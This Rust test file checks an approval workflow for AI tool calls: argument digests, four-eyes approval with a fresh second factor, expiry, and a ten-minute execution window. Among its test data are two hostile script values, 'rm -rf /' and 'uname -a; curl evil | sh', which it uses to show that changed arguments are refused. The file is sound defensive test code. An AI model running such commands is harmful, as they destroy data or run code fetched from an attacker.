//! The life of an AI approval (SPEC 14): the argument digest, four eyes with a fresh second
//! factor, one execution within ten minutes of the decision.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "test code"
)]

use breeze_authz::access::{AccessContext, OrgAccess, OrgRecord, resolve};
use breeze_authz::approval::{
    ARGUMENT_DIGEST_DOMAIN, Approval, ApprovalStatus, ArgumentDigest, EXECUTION_WINDOW,
    FRESH_FACTOR_WINDOW, MAX_ARGUMENT_BYTES, MAX_ARGUMENT_DEPTH,
};
use breeze_authz::registry::{PermissionSet, Registry};
use breeze_authz::risk::{
    APPROVAL_TTL, ApprovalError, ApprovalRequest, ApprovalVerdict, Approver, RiskEngine,
    ToolCatalogue, ToolTarget,
};
use breeze_authz::seeded::SeededRole;
use breeze_core::tenancy::{OrgStatus, PartnerId, UserId};
use proptest::prelude::*;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use time::{Duration, OffsetDateTime};

mod common;

const TOOL: &str = "queue_script";

fn args() -> Value {
    json!({"deviceId": "7c1f0a52-0000-4000-8000-000000000001", "script": "uname -a"})
}

fn digest(v: &Value) -> ArgumentDigest {
    ArgumentDigest::of(TOOL, v).unwrap()
}

/// A partner, one active organization, a requester and the people who may or may not decide.
struct World {
    partner: PartnerId,
    org: OrgRecord,
    registry: Registry,
    requester: UserId,
    approver: AccessContext,
    requester_ctx: AccessContext,
    blind: AccessContext,
    decider: PermissionSet,
    technician: PermissionSet,
    requested_at: OffsetDateTime,
}

impl World {
    fn new() -> Self {
        let partner = PartnerId::new_random();
        let org = common::org_record(partner, OrgStatus::Active, false);
        let registry = Registry::spec();
        let requester = UserId::new_random();
        let ctx = |user, access| {
            resolve(
                &common::partner_principal(user, partner, access),
                std::slice::from_ref(&org),
            )
            .unwrap()
        };
        Self {
            partner,
            org,
            approver: ctx(UserId::new_random(), OrgAccess::All),
            requester_ctx: ctx(requester, OrgAccess::All),
            blind: ctx(UserId::new_random(), OrgAccess::None),
            decider: SeededRole::SecurityApprover
                .role()
                .compile(&registry)
                .unwrap(),
            technician: SeededRole::PartnerTechnician
                .role()
                .compile(&registry)
                .unwrap(),
            registry,
            requester,
            requested_at: OffsetDateTime::UNIX_EPOCH + Duration::days(20_000),
        }
    }

    fn pending(&self) -> Approval {
        let target = ToolTarget {
            partner_id: self.partner,
            org_id: self.org.id,
            site_id: None,
            device_group_id: None,
        };
        let decision = RiskEngine::new(ToolCatalogue::default_catalogue()).decide(TOOL, &target);
        let request = ApprovalRequest::new(decision, self.requester, self.requested_at).unwrap();
        Approval::new(request, digest(&args()))
    }

    fn who<'a>(
        &'a self,
        context: &'a AccessContext,
        permissions: &'a PermissionSet,
    ) -> Approver<'a> {
        Approver {
            context,
            permissions,
            registry: &self.registry,
        }
    }

    /// Someone else, in scope, holding `approvals:decide`.
    fn good(&self) -> Approver<'_> {
        self.who(&self.approver, &self.decider)
    }

    fn at(&self, minutes: i64) -> OffsetDateTime {
        self.requested_at + Duration::minutes(minutes)
    }

    /// Decided by [`Self::good`] at `minutes`, with a factor proved a minute before.
    fn decided(&self, verdict: ApprovalVerdict, minutes: i64) -> Approval {
        let now = self.at(minutes);
        self.pending()
            .decide(
                self.good(),
                verdict,
                None,
                Some(now - Duration::minutes(1)),
                now,
            )
            .unwrap()
            .0
    }
}

// ---------------------------------------------------------------- transitions

#[test]
fn approve_then_execute_exactly_once() {
    let w = World::new();
    let pending = w.pending();
    assert_eq!(pending.stored_status(), ApprovalStatus::Pending);
    assert_eq!(pending.status_at(w.at(0)), ApprovalStatus::Pending);
    assert_eq!(pending.expires_at(), w.requested_at + APPROVAL_TTL);
    assert_eq!(pending.execute_by(), None);

    let now = w.at(5);
    let (approved, record) = pending
        .decide(
            w.good(),
            ApprovalVerdict::Approved,
            Some("  ok  "),
            Some(now),
            now,
        )
        .unwrap();
    assert_eq!(approved.stored_status(), ApprovalStatus::Approved);
    assert_eq!(approved.decided_at(), Some(now));
    assert_eq!(approved.executed_at(), None);
    assert_eq!(approved.execute_by(), Some(now + EXECUTION_WINDOW));
    assert_eq!(approved.digest(), pending.digest());
    assert_eq!(approved.request(), pending.request());
    assert_eq!(record.verdict, ApprovalVerdict::Approved);
    assert_eq!(record.decided_by, w.approver.user_id().unwrap());
    assert_eq!(record.requested_by, w.requester);
    assert_eq!(record.decided_at, now);
    assert_eq!(record.reason.as_deref(), Some("ok"));
    // Deciding returns the next state; the old one is unchanged (the server's compare-and-set
    // on the old status is what makes a second decision lose).
    assert_eq!(pending.stored_status(), ApprovalStatus::Pending);

    let run_at = now + Duration::minutes(3);
    let executed = approved.execute(&digest(&args()), run_at).unwrap();
    assert_eq!(executed.stored_status(), ApprovalStatus::Executed);
    assert_eq!(executed.status_at(run_at), ApprovalStatus::Executed);
    assert_eq!(executed.executed_at(), Some(run_at));
    assert_eq!(executed.decided_at(), Some(now));
    // Executed stays executed (it never turns into expired).
    assert_eq!(executed.status_at(w.at(24 * 60)), ApprovalStatus::Executed);

    assert_eq!(
        executed.execute(&digest(&args()), run_at).unwrap_err(),
        ApprovalError::AlreadyExecuted
    );
    assert_eq!(
        executed
            .decide(
                w.good(),
                ApprovalVerdict::Denied,
                None,
                Some(run_at),
                run_at
            )
            .unwrap_err(),
        ApprovalError::AlreadyDecided
    );
}

#[test]
fn denied_cannot_execute_or_be_decided_again() {
    let w = World::new();
    let denied = w.decided(ApprovalVerdict::Denied, 2);
    assert_eq!(denied.stored_status(), ApprovalStatus::Denied);
    assert_eq!(denied.execute_by(), None);
    // Denied is final: not expired later either.
    assert_eq!(denied.status_at(w.at(24 * 60)), ApprovalStatus::Denied);
    assert_eq!(
        denied.execute(&digest(&args()), w.at(3)).unwrap_err(),
        ApprovalError::NotApproved
    );
    let now = w.at(3);
    assert_eq!(
        denied
            .decide(w.good(), ApprovalVerdict::Approved, None, Some(now), now)
            .unwrap_err(),
        ApprovalError::AlreadyDecided
    );
}

#[test]
fn a_pending_approval_cannot_execute() {
    let w = World::new();
    let pending = w.pending();
    assert_eq!(
        pending.execute(&digest(&args()), w.at(1)).unwrap_err(),
        ApprovalError::NotApproved
    );
    // Not even after it expired undecided: it was never approved.
    assert_eq!(
        pending.execute(&digest(&args()), w.at(61)).unwrap_err(),
        ApprovalError::NotApproved
    );
}

#[test]
fn pending_expires_at_exactly_sixty_minutes() {
    let w = World::new();
    let pending = w.pending();
    let edge = w.requested_at + APPROVAL_TTL;
    let before = edge - Duration::nanoseconds(1);
    assert_eq!(pending.status_at(before), ApprovalStatus::Pending);
    assert_eq!(pending.status_at(edge), ApprovalStatus::Expired);
    assert!(
        pending
            .decide(
                w.good(),
                ApprovalVerdict::Approved,
                None,
                Some(before),
                before
            )
            .is_ok()
    );
    assert_eq!(
        pending
            .decide(w.good(), ApprovalVerdict::Approved, None, Some(edge), edge)
            .unwrap_err(),
        ApprovalError::Expired
    );
    // Expiry is checked before the approver: the requester, without the permission and
    // without a factor, is told it expired.
    let own = w.who(&w.requester_ctx, &w.technician);
    assert_eq!(
        pending
            .decide(own, ApprovalVerdict::Approved, None, None, edge)
            .unwrap_err(),
        ApprovalError::Expired
    );
}

#[test]
fn decided_in_the_last_minute_still_has_ten_minutes_to_run() {
    let w = World::new();
    let approved = w.decided(ApprovalVerdict::Approved, 59);
    let run = w.at(68);
    assert!(run > approved.expires_at());
    assert_eq!(approved.status_at(run), ApprovalStatus::Approved);
    assert!(approved.execute(&digest(&args()), run).is_ok());
}

// ---------------------------------------------------------------- refusals of decide, in order

#[test]
fn decide_checks_in_order() {
    let w = World::new();
    let pending = w.pending();
    let now = w.at(10);
    let stale = Some(now - FRESH_FACTOR_WINDOW - Duration::seconds(1));
    let fresh = Some(now);
    let decide = |a: Approver<'_>, reason: Option<&str>, factor| {
        pending
            .decide(a, ApprovalVerdict::Approved, reason, factor, now)
            .map(|(next, _)| next.stored_status())
            .map_err(|e| e.code())
    };
    let bad_reason = Some("a\u{7}b");

    // Already decided comes first, whatever else is wrong.
    let denied = w.decided(ApprovalVerdict::Denied, 1);
    let own = w.who(&w.requester_ctx, &w.technician);
    assert_eq!(
        denied
            .decide(own, ApprovalVerdict::Approved, bad_reason, None, w.at(2))
            .unwrap_err(),
        ApprovalError::AlreadyDecided
    );

    // A context that is not a user (the system, or an AI key acting for its creator).
    let (system, _audit) = AccessContext::system("test", now).unwrap();
    assert_eq!(
        decide(w.who(&system, &w.technician), bad_reason, None),
        Err("approver_not_a_user")
    );
    // Out of scope, before the permission, self approval, reason and factor.
    let blind_self = resolve(
        &common::partner_principal(w.requester, w.partner, OrgAccess::None),
        std::slice::from_ref(&w.org),
    )
    .unwrap();
    assert_eq!(
        decide(w.who(&blind_self, &w.technician), bad_reason, None),
        Err("out_of_scope")
    );
    assert_eq!(
        decide(w.who(&w.blind, &w.decider), None, fresh),
        Err("out_of_scope")
    );
    // Missing `approvals:decide`, before self approval.
    assert_eq!(
        decide(w.who(&w.requester_ctx, &w.technician), bad_reason, None),
        Err("missing_permission")
    );
    assert_eq!(
        decide(w.who(&w.approver, &w.technician), None, fresh),
        Err("missing_permission")
    );
    // Self approval, even with the permission and a fresh factor.
    assert_eq!(
        decide(w.who(&w.requester_ctx, &w.decider), bad_reason, None),
        Err("self_approval")
    );
    assert_eq!(
        decide(w.who(&w.requester_ctx, &w.decider), None, fresh),
        Err("self_approval")
    );
    // The reason, before the factor.
    assert_eq!(decide(w.good(), bad_reason, None), Err("invalid_reason"));
    assert_eq!(
        decide(w.good(), Some(&"x".repeat(1001)), fresh),
        Err("invalid_reason")
    );
    // Last, the fresh factor.
    assert_eq!(decide(w.good(), None, None), Err("fresh_factor_required"));
    assert_eq!(decide(w.good(), None, stale), Err("fresh_factor_required"));
    assert_eq!(decide(w.good(), None, fresh), Ok(ApprovalStatus::Approved));
}

#[test]
fn the_second_factor_must_be_at_most_five_minutes_old_and_not_in_the_future() {
    let w = World::new();
    let pending = w.pending();
    let now = w.at(30);
    let outcome = |verdict, factor: Option<OffsetDateTime>| {
        pending
            .decide(w.good(), verdict, None, factor, now)
            .map(|(next, _)| next.stored_status())
    };
    for (verdict, status) in [
        (ApprovalVerdict::Approved, ApprovalStatus::Approved),
        (ApprovalVerdict::Denied, ApprovalStatus::Denied),
    ] {
        // Denying needs the factor too: a stolen session must not be able to deny (and so
        // silence) the requests it sees either.
        assert_eq!(
            outcome(verdict, None),
            Err(ApprovalError::FreshFactorRequired)
        );
        assert_eq!(outcome(verdict, Some(now)), Ok(status));
        assert_eq!(
            outcome(verdict, Some(now - FRESH_FACTOR_WINDOW)),
            Ok(status)
        );
        assert_eq!(
            outcome(
                verdict,
                Some(now - FRESH_FACTOR_WINDOW - Duration::nanoseconds(1))
            ),
            Err(ApprovalError::FreshFactorRequired)
        );
        assert_eq!(
            outcome(verdict, Some(now - Duration::hours(2))),
            Err(ApprovalError::FreshFactorRequired)
        );
        assert_eq!(
            outcome(verdict, Some(now + Duration::nanoseconds(1))),
            Err(ApprovalError::FreshFactorRequired)
        );
        assert_eq!(
            outcome(verdict, Some(now + Duration::minutes(1))),
            Err(ApprovalError::FreshFactorRequired)
        );
    }
}

// ---------------------------------------------------------------- refusals of execute, in order

#[test]
fn the_execution_window_closes_at_exactly_ten_minutes() {
    let w = World::new();
    let approved = w.decided(ApprovalVerdict::Approved, 5);
    let decided = approved.decided_at().unwrap();
    let edge = decided + EXECUTION_WINDOW;
    let before = edge - Duration::nanoseconds(1);
    assert_eq!(approved.execute_by(), Some(edge));
    assert_eq!(approved.status_at(before), ApprovalStatus::Approved);
    assert_eq!(approved.status_at(edge), ApprovalStatus::Expired);
    assert!(approved.execute(&digest(&args()), before).is_ok());
    assert_eq!(
        approved.execute(&digest(&args()), edge).unwrap_err(),
        ApprovalError::ExecutionWindowClosed
    );
    // The closed window is reported before changed arguments.
    let other = digest(&json!({"script": "rm -rf /"}));
    assert_eq!(
        approved.execute(&other, edge).unwrap_err(),
        ApprovalError::ExecutionWindowClosed
    );
    assert_eq!(
        approved.execute(&other, before).unwrap_err(),
        ApprovalError::ArgumentsChanged
    );
}

#[test]
fn changed_arguments_are_refused_and_the_approval_stays_usable() {
    let w = World::new();
    let approved = w.decided(ApprovalVerdict::Approved, 5);
    let now = w.at(6);
    let mut changed = args();
    changed["script"] = json!("uname -a; curl evil | sh");
    assert_eq!(
        approved.execute(&digest(&changed), now).unwrap_err(),
        ApprovalError::ArgumentsChanged
    );
    // The same arguments for another tool are a different call.
    let as_other_tool = ArgumentDigest::of("run_script", &args()).unwrap();
    assert_eq!(
        approved.execute(&as_other_tool, now).unwrap_err(),
        ApprovalError::ArgumentsChanged
    );
    // A refusal changes nothing: the approved arguments still run.
    assert!(approved.execute(&digest(&args()), now).is_ok());
}

#[test]
fn execute_checks_in_order() {
    let w = World::new();
    let other = digest(&json!({}));
    let late = w.at(24 * 60);
    // Executed before window closed and arguments changed.
    let approved = w.decided(ApprovalVerdict::Approved, 5);
    let executed = approved.execute(&digest(&args()), w.at(6)).unwrap();
    assert_eq!(
        executed.execute(&other, late).unwrap_err(),
        ApprovalError::AlreadyExecuted
    );
    // Not approved (pending or denied) before window closed and arguments changed.
    assert_eq!(
        w.pending().execute(&other, late).unwrap_err(),
        ApprovalError::NotApproved
    );
    assert_eq!(
        w.decided(ApprovalVerdict::Denied, 5)
            .execute(&other, late)
            .unwrap_err(),
        ApprovalError::NotApproved
    );
    // Window closed before arguments changed.
    assert_eq!(
        approved.execute(&other, late).unwrap_err(),
        ApprovalError::ExecutionWindowClosed
    );
    assert_eq!(
        approved.execute(&other, w.at(6)).unwrap_err(),
        ApprovalError::ArgumentsChanged
    );
}

#[test]
fn restored_states_keep_their_rules() {
    let w = World::new();
    let p = w.pending();
    let d = *p.digest();
    let restore = |status, decided: Option<i64>, executed: Option<i64>| {
        Approval::restore(
            p.request().clone(),
            d,
            status,
            decided.map(|m| w.at(m)),
            executed.map(|m| w.at(m)),
        )
    };
    // A stored `expired` (written by a sweeper) refuses both steps.
    let expired = restore(ApprovalStatus::Expired, None, None);
    assert_eq!(expired.status_at(w.at(1)), ApprovalStatus::Expired);
    assert_eq!(
        expired.execute(&d, w.at(1)).unwrap_err(),
        ApprovalError::ExecutionWindowClosed
    );
    assert_eq!(
        expired
            .decide(
                w.good(),
                ApprovalVerdict::Approved,
                None,
                Some(w.at(1)),
                w.at(1)
            )
            .unwrap_err(),
        ApprovalError::Expired
    );
    // An approved row without its decision time can never run.
    let broken = restore(ApprovalStatus::Approved, None, None);
    assert_eq!(broken.execute_by(), None);
    assert_eq!(broken.status_at(w.at(1)), ApprovalStatus::Expired);
    assert_eq!(
        broken.execute(&d, w.at(1)).unwrap_err(),
        ApprovalError::ExecutionWindowClosed
    );
    // A restored approved row behaves as the one decide returned.
    let approved = restore(ApprovalStatus::Approved, Some(5), None);
    assert_eq!(approved, w.decided(ApprovalVerdict::Approved, 5));
    assert_eq!(
        approved.execute(&d, w.at(6)).unwrap().stored_status(),
        ApprovalStatus::Executed
    );
    // An approved approval past its window was still decided: deciding it again says so.
    assert_eq!(
        approved
            .decide(
                w.good(),
                ApprovalVerdict::Denied,
                None,
                Some(w.at(20)),
                w.at(20)
            )
            .unwrap_err(),
        ApprovalError::AlreadyDecided
    );
    let executed = restore(ApprovalStatus::Executed, Some(5), Some(6));
    assert_eq!(
        executed.execute(&d, w.at(7)).unwrap_err(),
        ApprovalError::AlreadyExecuted
    );
    assert_eq!(executed.execute_by(), Some(w.at(15)));
}

#[test]
fn status_strings_round_trip() {
    for status in [
        ApprovalStatus::Pending,
        ApprovalStatus::Approved,
        ApprovalStatus::Denied,
        ApprovalStatus::Executed,
        ApprovalStatus::Expired,
    ] {
        assert_eq!(ApprovalStatus::parse(status.as_str()), Some(status));
        assert_eq!(
            serde_json::to_value(status).unwrap(),
            json!(status.as_str())
        );
    }
    assert_eq!(ApprovalStatus::parse("Pending"), None);
    assert_eq!(ApprovalStatus::parse(""), None);
}

// ---------------------------------------------------------------- the digest

fn of_text(tool: &str, text: &str) -> Result<ArgumentDigest, ApprovalError> {
    ArgumentDigest::of(tool, &serde_json::from_str(text).unwrap())
}

#[test]
fn digest_known_answer() {
    // SHA-256 over the domain tag and the canonical JSON written out by hand.
    let canonical = br#"{"arguments":{"deviceId":"d","script":"uname -a"},"tool":"queue_script"}"#;
    let mut h = Sha256::new();
    h.update(b"breeze-approval/v1/arguments\0");
    h.update(canonical);
    let expected = hex(&h.finalize());
    assert_eq!(ARGUMENT_DIGEST_DOMAIN, b"breeze-approval/v1/arguments\0");
    let got = of_text(TOOL, r#"{"script": "uname -a", "deviceId": "d"}"#).unwrap();
    assert_eq!(got.to_hex(), expected);
    assert_eq!(got.to_string(), expected);
    assert_eq!(format!("{got:?}"), format!("ArgumentDigest({expected})"));
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn digest_ignores_key_order_and_whitespace() {
    let a = of_text(
        TOOL,
        r#"{"deviceId":"d","options":{"timeout":30,"shell":"bash","env":{"A":"1","B":"2"}},"script":"uname -a"}"#,
    )
    .unwrap();
    let b = of_text(
        TOOL,
        "{ \"script\" : \"uname -a\",\n\t\"options\": {\"env\": {\"B\":\"2\", \"A\":\"1\"}, \"shell\": \"bash\", \"timeout\": 30},\r\n \"deviceId\": \"d\" }",
    )
    .unwrap();
    assert_eq!(a, b);
    assert!(a.matches(&b));
    // Escapes that denote the same string are the same argument.
    assert_eq!(
        of_text(TOOL, r#"{"s":"\u0041\/"}"#).unwrap(),
        of_text(TOOL, r#"{"s":"A/"}"#).unwrap()
    );
}

#[test]
fn any_value_change_changes_the_digest() {
    let base = json!({
        "deviceId": "d",
        "script": "uname -a",
        "timeout": 30,
        "elevated": false,
        "args": ["-a", "-b"],
        "env": {"A": "1"},
        "note": null,
    });
    let d0 = digest(&base);
    let changes: Vec<(&str, Value)> = vec![
        ("deviceId", json!("e")),
        ("script", json!("uname -a ")),
        ("script", json!("Uname -a")),
        ("timeout", json!(31)),
        ("timeout", json!("30")),
        ("timeout", json!(30.0)),
        ("timeout", json!(-30)),
        ("elevated", json!(true)),
        ("elevated", json!(0)),
        ("args", json!(["-b", "-a"])),
        ("args", json!(["-a"])),
        ("args", json!(["-a", "-b", "-c"])),
        ("env", json!({"A": "2"})),
        ("env", json!({"a": "1"})),
        ("env", json!({"A": "1", "B": "1"})),
        ("note", json!("")),
        ("note", json!({})),
    ];
    let mut seen = std::collections::HashSet::from([d0]);
    for (key, value) in changes {
        let mut changed = base.clone();
        changed[key] = value.clone();
        let d = digest(&changed);
        assert!(!d.matches(&d0), "{key} = {value}");
        assert!(
            seen.insert(d),
            "{key} = {value} collides with another change"
        );
    }
    // Removing or adding a key (even a null one).
    let mut fewer = base.clone();
    fewer.as_object_mut().unwrap().remove("note");
    assert_ne!(digest(&fewer), d0);
    let mut more = base.clone();
    more["extra"] = Value::Null;
    assert_ne!(digest(&more), d0);
    // The tool is part of what is digested.
    assert_ne!(ArgumentDigest::of("run_script", &base).unwrap(), d0);
    // An empty object is a valid argument list.
    assert!(ArgumentDigest::of(TOOL, &json!({})).is_ok());
}

fn nested(depth: usize, array: bool) -> Value {
    // `{}` (or `[]`) is depth 1; each wrapper adds one.
    let mut v = if array { json!([]) } else { json!({}) };
    for _ in 1..depth {
        v = if array { json!([v]) } else { json!({"a": v}) };
    }
    v
}

#[test]
fn refuses_non_objects_deep_and_large_arguments() {
    for v in [
        json!(null),
        json!(true),
        json!(1),
        json!("{}"),
        json!([]),
        json!([{}]),
    ] {
        assert_eq!(
            ArgumentDigest::of(TOOL, &v).unwrap_err(),
            ApprovalError::InvalidArguments,
            "{v}"
        );
    }
    assert_eq!(MAX_ARGUMENT_DEPTH, 16);
    assert!(ArgumentDigest::of(TOOL, &nested(MAX_ARGUMENT_DEPTH, false)).is_ok());
    assert_eq!(
        ArgumentDigest::of(TOOL, &nested(MAX_ARGUMENT_DEPTH + 1, false)).unwrap_err(),
        ApprovalError::InvalidArguments
    );
    // Arrays count as depth too.
    let in_object = |v| json!({"a": v});
    assert!(ArgumentDigest::of(TOOL, &in_object(nested(MAX_ARGUMENT_DEPTH - 1, true))).is_ok());
    assert_eq!(
        ArgumentDigest::of(TOOL, &in_object(nested(MAX_ARGUMENT_DEPTH, true))).unwrap_err(),
        ApprovalError::InvalidArguments
    );
    // As deep as serde_json parses (128).
    assert_eq!(
        ArgumentDigest::of(TOOL, &in_object(nested(127, true))).unwrap_err(),
        ApprovalError::InvalidArguments
    );

    // Size: the whole canonical form (`{"arguments":...,"tool":"..."}`) is bounded.
    let at_limit = sized(TOOL, MAX_ARGUMENT_BYTES);
    assert!(ArgumentDigest::of(TOOL, &at_limit).is_ok());
    let over = sized(TOOL, MAX_ARGUMENT_BYTES + 1);
    assert_eq!(
        ArgumentDigest::of(TOOL, &over).unwrap_err(),
        ApprovalError::InvalidArguments
    );
    // The bound includes the tool name: the same arguments under a longer name are refused.
    assert_eq!(
        ArgumentDigest::of("queue_script_x", &at_limit).unwrap_err(),
        ApprovalError::InvalidArguments
    );
}

/// Arguments `{"s": "xxx..."}` whose canonical form under `tool` is exactly `bytes` long.
fn sized(tool: &str, bytes: usize) -> Value {
    let overhead = format!(r#"{{"arguments":{{"s":""}},"tool":"{tool}"}}"#).len();
    let v = json!({"s": "x".repeat(bytes - overhead)});
    let whole = json!({"arguments": v, "tool": tool});
    assert_eq!(
        breeze_core::audit::canonical_json(&whole, 64)
            .unwrap()
            .len(),
        bytes
    );
    v
}

#[test]
fn digest_text_form() {
    let d = digest(&args());
    let hex = d.to_hex();
    assert_eq!(hex.len(), 64);
    assert!(
        hex.bytes()
            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    );
    assert_eq!(hex.parse::<ArgumentDigest>().unwrap(), d);
    let json = serde_json::to_value(d).unwrap();
    assert_eq!(json, json!(hex));
    assert_eq!(serde_json::from_value::<ArgumentDigest>(json).unwrap(), d);
    for bad in [
        hex.to_uppercase(),
        hex[..63].to_owned(),
        format!("{hex}0"),
        format!("{}g", &hex[..63]),
        String::new(),
        format!(" {}", &hex[1..]),
    ] {
        assert_eq!(
            bad.parse::<ArgumentDigest>().unwrap_err(),
            ApprovalError::InvalidArguments,
            "{bad:?}"
        );
        assert!(serde_json::from_value::<ArgumentDigest>(json!(bad)).is_err());
    }
}

// ---------------------------------------------------------------- property

fn leaf() -> impl Strategy<Value = Value> {
    prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        "[a-z \\-\"\\\\é]{0,8}".prop_map(Value::from),
    ]
}

fn value() -> impl Strategy<Value = Value> {
    leaf().prop_recursive(3, 24, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
            prop::collection::btree_map("[a-zA-Z_]{1,6}", inner, 0..4)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

/// JSON text of `v` whose objects list their members in an order chosen by `order` (a
/// rotation per object), with whitespace between tokens.
fn scrambled(v: &Value, order: &mut impl Iterator<Item = usize>) -> String {
    match v {
        Value::Object(m) => {
            let mut members: Vec<_> = m.iter().collect();
            if !members.is_empty() {
                let k = order.next().unwrap_or(0) % members.len();
                members.rotate_left(k);
                if order.next().unwrap_or(0) % 2 == 1 {
                    members.reverse();
                }
            }
            let inner: Vec<String> = members
                .into_iter()
                .map(|(k, v)| {
                    format!(
                        " {} :\n{}",
                        serde_json::to_string(k).unwrap(),
                        scrambled(v, order)
                    )
                })
                .collect();
            format!("{{\t{} }}", inner.join(" ,\r\n"))
        }
        Value::Array(items) => {
            let inner: Vec<String> = items.iter().map(|i| scrambled(i, order)).collect();
            format!("[ {} ]", inner.join(" , "))
        }
        other => serde_json::to_string(other).unwrap(),
    }
}

proptest! {
    #[test]
    fn digest_is_the_same_for_permuted_keys(
        members in prop::collection::btree_map("[a-zA-Z_]{1,8}", value(), 0..8),
        order in prop::collection::vec(any::<usize>(), 64),
    ) {
        let v = Value::Object(members.into_iter().collect());
        let text = scrambled(&v, &mut order.into_iter().cycle());
        let reparsed: Value = serde_json::from_str(&text).unwrap();
        prop_assert_eq!(digest(&reparsed), digest(&v));
    }

    #[test]
    fn digest_matches_only_equal_values(a in value(), b in value()) {
        let (a, b) = (json!({"v": a}), json!({"v": b}));
        prop_assert_eq!(digest(&a).matches(&digest(&b)), a == b);
    }
}
